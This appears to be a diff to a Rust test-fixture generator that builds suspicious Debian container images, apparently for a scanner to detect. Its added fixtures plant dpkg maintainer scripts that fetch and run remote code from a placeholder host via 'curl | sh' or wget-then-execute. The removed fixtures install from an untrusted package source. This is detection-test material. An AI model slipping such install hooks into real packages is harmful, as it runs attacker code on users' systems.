@@ -39,12 +39,18 @@ pub(crate) fn shapes() -> Vec<Shape> {
                 })
                 .cmd(&["python3", "-m", "http.server"])
             }),
-            suspicious("unsigned source of packages and what it brought", |s| {
-                let script = s.pick(
-                "#!/bin/sh\necho 'deb [trusted=yes] http://203.0.113.70/ ./' > /etc/apt/sources.list.d/x.list\napt-get update && apt-get install -y --allow-unauthenticated tool\ntool &\nexec \"$@\"\n",
-                "#!/bin/sh\napk add --allow-untrusted http://203.0.113.70/tool.apk\ntool &\nexec \"$@\"\n",
-            );
-                Planted::debian().script("start.sh", script).entry(&["/start.sh"]).cmd(&[
+            suspicious("script of a package that fetches and runs", |s| {
+                let (path, text) = s.pick(
+                    (
+                        "var/lib/dpkg/info/curl.postinst",
+                        "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then curl -s http://203.0.113.70/x | sh; fi\n",
+                    ),
+                    (
+                        "var/lib/dpkg/info/cron.prerm",
+                        "#!/bin/bash\nwget -q -O /tmp/y http://203.0.113.70/y && chmod +x /tmp/y && /tmp/y &\nexit 0\n",
+                    ),
+                );
+                Planted::debian().layer(|layer| layer.file(path, 0o755, text)).cmd(&[
                     "python3",
                     "-m",
                     "http.server",
